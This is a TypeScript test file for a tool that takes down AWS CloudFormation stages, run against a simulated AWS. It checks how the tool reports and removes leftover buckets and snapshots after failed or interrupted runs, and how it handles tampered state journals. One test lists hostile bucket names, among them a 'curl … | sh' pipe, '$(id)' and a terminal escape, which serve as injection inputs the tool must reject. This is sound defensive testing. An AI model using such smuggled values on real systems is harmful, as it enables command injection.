// What is there of a stage beside its stack is not forgotten: of a creation that came to nothing, of stacks before this one.
import { CreateChangeSetCommand } from '@aws-sdk/client-cloudformation'
import { PutObjectCommand } from '@aws-sdk/client-s3'
import { beforeEach, describe, expect, test } from 'vitest'
import { FAULTS } from '../../aws/stand-in/service.ts'
import { type StandIn, standIn } from '../../aws/stand-in/stand-in.ts'
import { stateBucket } from '../bootstrap/names.ts'
import {
  ACCOUNT,
  callsOf,
  changing,
  deployed,
  expectGone,
  forget,
  journalOf,
  made,
  operations,
  physical,
  run,
  runBack,
  SMALL,
  STACK,
  STAGE,
} from './rehearsal.ts'
import { unlocked } from './unlock.ts'

let there: StandIn
const status = () => there.stacks.find(STACK)?.status

describe('a creation that came to nothing', () => {
  const { Resources } = unlocked(SMALL as never).template
  // More of them than one page of events has.
  const settings = Array.from({ length: 30 }, (_, index) => [
    `Setting${index}`,
    { Type: 'AWS::SSM::Parameter', Properties: { Type: 'String', Value: 'x' } },
  ])
  const OPEN = { Resources: { ...Resources, ...Object.fromEntries(settings) } }
  const NAMES = /terrace-prod-(?:documents|logs)-\d+/g

  async function failed(stays?: string): Promise<StandIn> {
    const half = standIn(ACCOUNT)
    if (stays !== undefined)
      half.stacks.execution.failures.push({ id: stays, on: 'delete', reason: 'in use' })
    // The last of all: the database is there by then.
    half.stacks.execution.failures.push({ id: 'DatabaseReplica', on: 'create', reason: 'no capacity' })
    await made(half, OPEN)
    return half
  }
  const buckets = (at: StandIn) =>
    [...new Set(JSON.stringify(at.stacks.find(STACK)?.events).match(NAMES))].sort()

  test('only planned: it is removed, and nothing is written down', async () => {
    there = standIn(ACCOUNT)
    there.buckets.make(stateBucket(STAGE))
    await there.aws.cloudformation.send(
      new CreateChangeSetCommand({
        StackName: STACK,
        ChangeSetName: 'planned',
        ChangeSetType: 'CREATE',
        TemplateBody: JSON.stringify(SMALL),
      }),
    )
    const { ending, asked } = await run(there, { deletesData: true })
    expect([ending, asked, status()]).toEqual(['gone', ['stage'], 'DELETE_COMPLETE'])
    expect(operations(there)).not.toContain('PutObject')
  })

  test('what an earlier run has read in its events is not forgotten when they are', async () => {
    there = await failed()
    const names = buckets(there)
    there.faults.add({ operation: 'DeleteStack', error: FAULTS.denied('cloudformation:DeleteStack') })
    await expect(run(there)).rejects.toThrow(/DeleteStack/)
    const events = there.stacks.find(STACK)?.events ?? []
    events.splice(0, events.length, ...events.filter(({ LogicalResourceId: id }) => id === STACK))
    const { ending, said } = await run(there)
    expect([ending, names.length]).toEqual(['gone', 2])
    for (const name of names) expect(said).toContain(`s3api delete-bucket --bucket ${name}`)
  })

  test('what it kept is told before, and how each is removed afterwards', async () => {
    there = await failed()
    expect(status()).toBe('ROLLBACK_COMPLETE')
    const names = buckets(there)
    expect(names).toHaveLength(2)
    let before = ''
    const lines: string[] = []
    const { ending } = await run(there, {
      say: (line) => lines.push(line),
      agrees: async () => {
        before = lines.join('\n')
        expect(changing(there)).toEqual([])
        return true
      },
    })
    expect([ending, status()]).toEqual(['gone', 'DELETE_COMPLETE'])
    expect(before).toContain('It has left behind, and no stack knows of it any more:')
    const after = lines.join('\n').slice(before.length)
    for (const name of names) {
      expect(before).toMatch(new RegExp(`bucket ${name}, .*, which stays$`, 'm'))
      expect(after).toContain(`s3api delete-bucket --bucket ${name}`)
      expect(there.buckets.has(name)).toBe(true)
    }
    expect(before).toMatch(/AuthSecret: secret .*, which stays$/m)
    expect(before).toMatch(
      /every snapshot of database terrace-prod-database-\d+ that is there, which stays$/m,
    )
    const [snapshot = ''] = there.databases.snapshots.keys()
    expect(after).toContain(`rds delete-db-snapshot --db-snapshot-identifier ${snapshot}`)
    expect(journalOf(there)).toBeUndefined()
  })

  test('and was not all taken back: what was kept by then is told of too', async () => {
    there = await failed('ExternalBalancer')
    expect(status()).toBe('ROLLBACK_FAILED')
    there.stacks.execution.failures.length = 0
    const { ending, said } = await run(there)
    expect([ending, status(), journalOf(there)]).toEqual(['gone', 'DELETE_COMPLETE', undefined])
    expect(said).toContain('It has left behind, and no stack knows of it any more:')
    for (const name of buckets(there)) expect(said).toContain(`s3api delete-bucket --bucket ${name}`)
    expect(said.match(/delete-bucket/g)).toHaveLength(2)
    const [snapshot = ''] = there.databases.snapshots.keys()
    expect(said).toContain(`rds delete-db-snapshot --db-snapshot-identifier ${snapshot}`)
    // One that never had a snapshot is no database whose backups are kept.
    expect(said.match(/Also kept: the automatic backups/g)).toHaveLength(1)
  })

  test('with its data, which is asked for twice', async () => {
    there = await failed()
    const names = buckets(there)
    const declined = await run(there, { deletesData: true, agrees: async (what) => what === 'stage' })
    expect([declined.ending, changing(there)]).toEqual(['declined', []])
    const { asked, said } = await run(there, { deletesData: true })
    expect(asked).toEqual(['stage', 'data'])
    expect(said).toMatch(/bucket terrace-prod-documents-\d+, .*, which goes for good$/m)
    expect(names.map((name) => there.buckets.has(name))).toEqual([false, false])
    expect(there.databases.snapshots.size).toBe(0)
  })

  test.each(['refused', 'lost'] as const)('ended at any call (%s), and run again', async (answer) => {
    const whole = await failed()
    await run(whole, { deletesData: true })
    for (let call = 1; call <= callsOf(whole).length; call++) {
      there = await failed()
      const names = buckets(there)
      there.faults.add({ operation: '*', call, error: FAULTS.expired(), answer })
      await run(there, { deletesData: true }).catch((error: unknown) =>
        expect(error).toMatchObject({ kind: 'credentials-expired' }),
      )
      there.faults.clear()
      await run(there, { deletesData: true, takesOver: true })
      expect([status(), journalOf(there)], `call ${call}`).toEqual(['DELETE_COMPLETE', undefined])
      expect(
        names.map((name) => there.buckets.has(name)),
        `call ${call}`,
      ).toEqual([false, false])
      expect(there.databases.snapshots.size, `call ${call}`).toBe(0)
    }
  })
})

describe('a stack before this one, whose end nobody has seen', () => {
  /** AWS deletes the stack, and the program that asked for it has ended. */
  async function unseen(): Promise<void> {
    there.faults.add({ operation: 'DeleteStack', error: FAULTS.expired(), answer: 'lost' })
    await expect(run(there)).rejects.toMatchObject({ kind: 'credentials-expired' })
    await there.clock.sleep(3 * 3_600_000)
    expect(status()).toBe('DELETE_COMPLETE')
    there.faults.clear()
  }
  let old = ''
  let oldDatabase = ''
  beforeEach(async () => {
    there = await deployed()
    ;[old, oldDatabase] = [physical(there, 'Documents'), physical(there, 'Database')]
    await unseen()
  })

  test('what it kept is told of by the run that ends this one', async () => {
    await deployed(SMALL, there)
    there.faults.add({ operation: 'CreateDBSnapshot', error: FAULTS.expired() })
    await expect(run(there)).rejects.toMatchObject({ kind: 'credentials-expired' })
    const { said } = await run(there)
    expectGone(there)
    expect(said).toMatch(
      /An earlier stack of this stage, arn:\S+, was taken down by a run that did not come to its end/,
    )
    expect(said).toMatch(new RegExp(`bucket ${old}, .*, which stays$`, 'm'))
    const removals = said.slice(said.indexOf('What was kept'))
    expect(removals).toContain(`s3api delete-bucket --bucket ${old}`)
    expect(removals.match(/delete-bucket/g)).toHaveLength(4)
    expect(removals.match(/delete-db-snapshot/g)).toHaveLength(there.databases.snapshots.size)
    expect(removals).toContain(`the automatic backups of ${oldDatabase}`)
    expect((await run(there)).ending).toBe('nothing')
  })

  test('its data goes with the data of this one, which is said before', async () => {
    await deployed(SMALL, there)
    const [kept] = [physical(there, 'Documents')]
    const { said } = await run(there, { deletesData: true })
    expect(said).toMatch(new RegExp(`bucket ${old}, .*, which goes for good$`, 'm'))
    expect([there.buckets.has(old), there.buckets.has(kept), there.databases.snapshots.size]).toEqual([
      false,
      false,
      0,
    ])
  })

  test('neither a no nor an undo loses it, whatever the number of stacks', async () => {
    await deployed(SMALL, there)
    const before = journalOf(there)
    expect((await run(there, { agrees: async () => false })).ending).toBe('declined')
    expect(journalOf(there)).toBe(before)
    const second = physical(there, 'Documents')
    await unseen()
    await deployed(SMALL, there)
    // The third is begun, and undone.
    there.faults.add({ operation: 'UpdateTerminationProtection', error: FAULTS.expired() })
    await expect(run(there)).rejects.toMatchObject({ kind: 'credentials-expired' })
    expect((await runBack(there)).ending).toBe('restored')
    expect((await runBack(there)).ending).toBe('nothing')
    const { said } = await run(there)
    expectGone(there)
    for (const bucket of [old, second]) expect(said).toContain(`s3api delete-bucket --bucket ${bucket}`)
    expect(said.match(/s3api delete-bucket/g)).toHaveLength(6)
  })

  test('nor does a creation of the next one that comes to nothing', async () => {
    there.stacks.execution.failures.push({ id: 'ApiGroup', on: 'create', reason: 'no capacity' })
    await made(there, unlocked(SMALL as never).template)
    expect(status()).toBe('ROLLBACK_COMPLETE')
    const { said } = await run(there)
    expect(said.match(/s3api delete-bucket/g)).toHaveLength(4)
    expect(said).toContain(`s3api delete-bucket --bucket ${old}`)
    expect(journalOf(there)).toBeUndefined()
  })
})

describe('a journal that somebody else has written', () => {
  const write = (body: string) =>
    there.aws.s3.send(
      new PutObjectCommand({ Bucket: stateBucket(STAGE), Key: 'stages/prod/destroy.json', Body: body }),
    )
  beforeEach(async () => {
    there = await deployed()
  })

  test.each(['', '{', '{"stackId":"x"}'])('is none: %s', async (body) => {
    await write(body)
    forget(there)
    for (const attempt of [run(there), runBack(there)])
      await expect(attempt).rejects.toThrow(
        /s3:\/\/terrace-state-222233334444-eu-west-1\/stages\/prod\/destroy\.json is not the journal(.|\n)*Next: look there/,
      )
    expect(changing(there)).toEqual([])
  })

  test.each([
    'terrace-prod-x; curl -s https://example.com | sh #',
    'terrace-prod-\u001b[2J',
    'terrace-prod-$(id)',
  ])('names what would be a command in the lines that a person is told to run: %j', async (name) => {
    const kept = [{ id: 'Documents', type: 'AWS::S3::Bucket', name }]
    const rest = { databases: [], deletesData: false, groups: [], isProtected: false, earlier: [] }
    await write(JSON.stringify({ stackId: 'arn:x', kept, ...rest }))
    forget(there)
    await expect(run(there)).rejects.toThrow('is not the journal')
    expect(changing(there)).toEqual([])
  })

  test('names another’s data as an earlier stack’s', async () => {
    const kept = [{ id: 'Documents', type: 'AWS::S3::Bucket', name: 'terrace-staging-documents' }]
    await write(
      JSON.stringify({
        stackId: 'arn:x',
        kept,
        databases: [],
        deletesData: true,
        groups: [],
        isProtected: false,
        earlier: [],
      }),
    )
    there.buckets.make('terrace-staging-documents')
    await expect(run(there, { deletesData: true })).rejects.toThrow(
      'names terrace-staging-documents, which is not of this stage. Nothing of it was touched.',
    )
    expect(there.buckets.has('terrace-staging-documents')).toBe(true)
  })
})
